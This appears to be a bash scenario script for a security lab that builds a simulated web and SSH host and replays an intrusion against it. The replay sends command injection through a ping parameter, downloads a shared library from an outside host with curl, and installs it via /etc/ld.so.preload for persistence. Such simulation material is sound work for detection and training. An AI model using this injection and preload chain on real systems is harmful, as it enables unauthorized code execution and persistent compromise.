# shellcheck shell=bash disable=SC2034
HOST=www21
FORMAT=ENRICHED
UNSET=1

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10:8080/$2"; }

login() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b "$1" -i "$work/$2.key" "$2@10.88.0.10" "$3"
}

visits() {
    while :; do
        ask 192.0.2.7 "ping?host=127.0.0.1"
        sleep 0.6
        ask 192.0.2.41 "ping?host=10.88.0.10"
        sleep 0.6
    done
}

scenario() {
    local name
    mkdir -p /srv/www /srv/lib /run/sshd "$work/theirs"
    cp "$folder/site.py" /srv/www/site.py
    account ops 4051
    account dev 4052
    echo "token = cherry" >/srv/home/ops/.token
    chown ops /srv/home/ops/.token
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    for name in ops dev; do
        ssh-keygen -q -t ed25519 -N "" -f "$work/$name.key"
        install -m 600 -o "$name" "$work/$name.key.pub" "/srv/home/$name/.ssh/authorized_keys"
        touch "/srv/home/$name/.hushlogin"
    done
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    gcc -shared -fPIC -Os -s -o "$work/theirs/l" "$folder/preload.c"
    theirs
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside /usr/bin/python3 -S -B /srv/www/site.py >/dev/null 2>&1 &
    sleep 2
    visits &
    local visits=$!
    login 10.88.0.55 ops "wc -l .token"
    sleep 2
    ask 198.51.100.23 "ping?host=$(quoted "127.0.0.1;id")"
    sleep 1
    ask 198.51.100.23 "ping?host=$(quoted "127.0.0.1;curl -s -o /srv/lib/libz.so.9 http://203.0.113.9:443/l")"
    sleep 2
    ask 198.51.100.23 "ping?host=$(quoted "127.0.0.1;echo /srv/lib/libz.so.9 > /etc/ld.so.preload")"
    sleep 8
    login 192.0.2.41 dev "ls -l"
    sleep 12
    login 10.88.0.55 ops "wc -l .token"
    sleep 2
    kill "$visits"
    rm -f /etc/ld.so.preload
    login 10.88.0.55 ops uptime
}
